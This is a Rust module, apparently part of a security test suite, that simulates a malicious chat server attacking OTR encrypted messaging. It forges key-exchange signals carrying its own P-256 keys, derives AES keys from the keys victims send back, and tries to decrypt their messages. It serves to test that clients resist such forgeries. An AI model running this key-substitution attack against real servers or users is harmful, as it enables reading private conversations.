//! The server as an active attacker on OTR signalling (issue 15): it forges stock signals into a
//! user's stream with key pairs of its own, watches what clients answer, and tries to read every
//! ciphertext that passes through it.
//!
//! * [`forge`] — [`Forgery`]: a `handshake` (plain or `refresh: true`), `acknowledge`, `deny` or
//!   `end` (bare or with a bogus `otrd.end` proof) claiming to come from one user, delivered to
//!   another user's connections only, on the 7.x `<uid>/otr` stream or — on servers without the
//!   relay — inside an otrd envelope on path A or B (PROTOCOL.md §12), the way that user's peer
//!   would send it. Every key-bearing forgery carries a fresh P-256 key pair the attacker keeps.
//! * `observe` — every DDP method call a client makes passes through [`Attacker::observe`]:
//!   each stock `publicKey` a client sends is remembered, and with each of the attacker's own keys
//!   gives the AES key a stock client would derive from that pair (PROTOCOL.md §1.3) — so a
//!   victim that re-keys against a forged key is readable whether it answers with a new key pair
//!   or, like a stock client on an unsolicited `acknowledge`, keeps its old one. Every `t:"otr"`
//!   message, `updateOTRAck` ack and envelope `message`/`ack` item is then tried with every key.
//! * [`stock`] — the stock scheme's primitives (AWS-LC, checked against the protocol vectors).
//!
//! [`AttackReport`] says what was forged, which signals clients sent after the first forgery
//! (a victim must send none in answer) and what was decrypted (a test asserts nothing).

pub mod forge;
mod observe;
pub mod stock;

pub use forge::{ForgeError, Forged, ForgedSignal, Forgery};

use std::collections::{HashMap, HashSet};
use std::sync::{Mutex, MutexGuard};

use serde_json::Value;

use observe::{CiphertextSeen, Fragments, SignalSeen};
use stock::{AttackerKey, PeerKey, StockKey};

/// How a signal travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Route {
    /// The 7.x relay when OTR is enabled there; otherwise the path the claimed sender was seen
    /// using in that room, else path A.
    Auto,
    /// `stream-notify-user` `<uid>/otr` (7.x, PROTOCOL.md §3).
    OtrStream,
    /// An envelope on `stream-notify-room` `<rid>/user-activity` (§12.2).
    PathA,
    /// An envelope on the user stream `<uid>/video-conference` (§12.3).
    PathB,
}

/// A signal a client sent after the attacker's first forgery.
#[derive(Debug, Clone)]
pub struct ObservedSignal {
    /// The writing connection's user (attested by the server, unlike the payload).
    pub from_uid: String,
    /// Where it travelled.
    pub route: Route,
    /// The room it names.
    pub room: String,
    /// `handshake`, `acknowledge`, `deny` or `end`.
    pub kind: String,
    /// Its stock `publicKey`, if it carried one.
    pub public_key: Option<String>,
    /// The whole payload.
    pub payload: Value,
}

/// A ciphertext the attacker opened.
#[derive(Debug, Clone)]
pub struct Decrypted {
    /// Who sent it.
    pub from_uid: String,
    /// The room.
    pub room: String,
    /// `message` or `ack`.
    pub what: String,
    /// The plaintext (lossy UTF-8).
    pub plaintext: String,
}

/// What the attack achieved so far.
#[derive(Debug, Clone, Default)]
pub struct AttackReport {
    /// Signals forged.
    pub forged: usize,
    /// Distinct stock public keys clients sent (ever).
    pub victim_keys: usize,
    /// AES keys the attacker holds (its own keys × the victims' keys).
    pub keys: usize,
    /// Ciphertexts clients sent (ever).
    pub ciphertexts_seen: u64,
    /// Of those, sent after the first forgery.
    pub ciphertexts_after_forgery: u64,
    /// Signals clients sent after the first forgery, in order.
    pub answers: Vec<ObservedSignal>,
    /// Ciphertexts opened with one of the keys (each distinct ciphertext once).
    pub decrypted: Vec<Decrypted>,
}

impl AttackReport {
    /// The signals `uid` sent after the first forgery.
    pub fn answers_from(&self, uid: &str) -> Vec<&ObservedSignal> {
        self.answers.iter().filter(|s| s.from_uid == uid).collect()
    }
}

/// The attacker's memory, shared by every connection of one simulator.
#[derive(Debug, Default)]
pub struct Attacker {
    inner: Mutex<Inner>,
}

#[derive(Debug, Default)]
struct Inner {
    /// Key pairs put into forged signals.
    own: Vec<AttackerKey>,
    /// Every distinct stock public key a client sent.
    victim_keys: Vec<PeerKey>,
    /// Every AES key from an own key and a victim key.
    keys: Vec<StockKey>,
    forged: usize,
    answers: Vec<ObservedSignal>,
    ciphertexts: u64,
    ciphertexts_after: u64,
    decrypted: Vec<Decrypted>,
    /// Ciphertexts already opened (clients resend under back-pressure: count each once).
    opened: HashSet<String>,
    /// `(room, uid)` → the path that user was seen writing envelopes on in that room.
    paths: HashMap<(String, String), Route>,
    fragments: Fragments,
}

/// Methods whose parameters can carry signals or ciphertexts; anything else is skipped unread.
const WATCHED: [&str; 5] = [
    "stream-notify-user",
    "stream-notify-room",
    "stream-notify-room-users",
    "sendMessage",
    "updateOTRAck",
];

impl Attacker {
    fn lock(&self) -> MutexGuard<'_, Inner> {
        // Plain counters and keys: a panic elsewhere leaves them usable.
        self.inner.lock().unwrap_or_else(|e| e.into_inner())
    }

    /// Reads one method call a logged-in client made (the server sees every byte).
    pub fn observe(&self, uid: Option<&str>, method: &str, params: &[Value]) {
        let Some(uid) = uid else { return };
        if !WATCHED.contains(&method) {
            return;
        }
        let mut inner = self.lock();
        let seen = observe::method_call(uid, method, params, &mut inner.fragments);
        if let Some((room, route)) = seen.path_used {
            inner.paths.insert((room, uid.to_owned()), route);
        }
        for s in seen.signals {
            inner.on_signal(uid, s);
        }
        for c in seen.ciphertexts {
            inner.on_ciphertext(uid, c);
        }
    }

    /// The path `uid` was last seen writing envelopes on in `room`.
    pub fn path_of(&self, room: &str, uid: &str) -> Option<Route> {
        self.lock()
            .paths
            .get(&(room.to_owned(), uid.to_owned()))
            .copied()
    }

    /// Keeps a key pair used in a forgery (and derives its keys with every victim key).
    pub(crate) fn add_own_key(&self, key: AttackerKey) {
        let mut inner = self.lock();
        let derived: Vec<StockKey> = inner
            .victim_keys
            .iter()
            .filter_map(|v| key.derive(v))
            .collect();
        inner.keys.extend(derived);
        inner.own.push(key);
    }

    /// Counts one delivered forgery: signals clients send from now on are answers.
    pub(crate) fn count_forgery(&self) {
        self.lock().forged += 1;
    }

    /// What the attack achieved so far.
    pub fn report(&self) -> AttackReport {
        let inner = self.lock();
        AttackReport {
            forged: inner.forged,
            victim_keys: inner.victim_keys.len(),
            keys: inner.keys.len(),
            ciphertexts_seen: inner.ciphertexts,
            ciphertexts_after_forgery: inner.ciphertexts_after,
            answers: inner.answers.clone(),
            decrypted: inner.decrypted.clone(),
        }
    }
}

impl Inner {
    fn on_signal(&mut self, uid: &str, s: SignalSeen) {
        let public_key = s
            .payload
            .get("publicKey")
            .and_then(Value::as_str)
            .map(str::to_owned);
        if let Some(peer) = public_key.as_deref().and_then(PeerKey::from_jwk) {
            if !self.victim_keys.contains(&peer) {
                let derived: Vec<StockKey> =
                    self.own.iter().filter_map(|k| k.derive(&peer)).collect();
                self.keys.extend(derived);
                self.victim_keys.push(peer);
            }
        }
        if self.forged > 0 {
            self.answers.push(ObservedSignal {
                from_uid: uid.to_owned(),
                route: s.route,
                room: s.room,
                kind: s.kind.to_owned(),
                public_key,
                payload: s.payload,
            });
        }
    }

    fn on_ciphertext(&mut self, uid: &str, c: CiphertextSeen) {
        self.ciphertexts += 1;
        if self.forged > 0 {
            self.ciphertexts_after += 1;
        }
        if self.opened.contains(&c.text) {
            return;
        }
        let Some(plain) = self.keys.iter().find_map(|k| k.open(&c.text)) else {
            return;
        };
        tracing::warn!(room = %c.room, what = c.what, "attacker opened a ciphertext");
        self.decrypted.push(Decrypted {
            from_uid: uid.to_owned(),
            room: c.room,
            what: c.what.to_owned(),
            plaintext: String::from_utf8_lossy(&plain).into_owned(),
        });
        self.opened.insert(c.text);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// A victim that re-keys against the forged key (new key pair in its answer) is read.
    #[test]
    fn reads_a_victim_that_answers_a_forged_key() {
        let attacker = Attacker::default();
        let ours = AttackerKey::generate().expect("key");
        let victim = AttackerKey::generate().expect("key");
        let key = ours
            .derive(&PeerKey::from_jwk(victim.public_jwk()).expect("jwk"))
            .expect("agree");
        attacker.add_own_key(ours);
        attacker.count_forgery();
        attacker.observe(
            Some("B"),
            "stream-notify-user",
            &[
                json!("A/otr"),
                json!("acknowledge"),
                json!({"roomId": "R", "userId": "B", "publicKey": victim.public_jwk()}),
            ],
        );
        // A ciphertext under that key: IV of zeros, sealed with AWS-LC directly.
        use aws_lc_rs::aead::{Aad, LessSafeKey, Nonce, UnboundKey, AES_128_GCM};
        let mut buf = b"{\"text\":\"secret\"}".to_vec();
        let k = LessSafeKey::new(UnboundKey::new(&AES_128_GCM, key.bytes()).expect("key"));
        k.seal_in_place_append_tag(
            Nonce::assume_unique_for_key([0; 12]),
            Aad::empty(),
            &mut buf,
        )
        .expect("seal");
        let mut wire = vec![0u8; 12];
        wire.extend(buf);
        use base64::Engine as _;
        let msg =
            json!({"$binary": base64::engine::general_purpose::STANDARD.encode(&wire)}).to_string();
        for _ in 0..2 {
            attacker.observe(
                Some("B"),
                "sendMessage",
                &[json!({"_id": "m", "rid": "R", "msg": msg, "t": "otr"})],
            );
        }
        let r = attacker.report();
        assert_eq!((r.forged, r.victim_keys, r.keys), (1, 1, 1));
        assert_eq!(r.answers_from("B").len(), 1);
        assert_eq!(r.ciphertexts_after_forgery, 2);
        assert_eq!(r.decrypted.len(), 1, "a resent ciphertext counts once");
        assert!(r.decrypted[0].plaintext.contains("secret"));
    }

    #[test]
    fn signals_before_any_forgery_are_not_answers() {
        let attacker = Attacker::default();
        attacker.observe(
            Some("B"),
            "stream-notify-user",
            &[
                json!("A/otr"),
                json!("end"),
                json!({"roomId": "R", "userId": "B"}),
            ],
        );
        attacker.observe(None, "sendMessage", &[json!({"t": "otr", "msg": "x"})]);
        let r = attacker.report();
        assert!(r.answers.is_empty());
        assert_eq!(r.ciphertexts_seen, 0);
    }
}
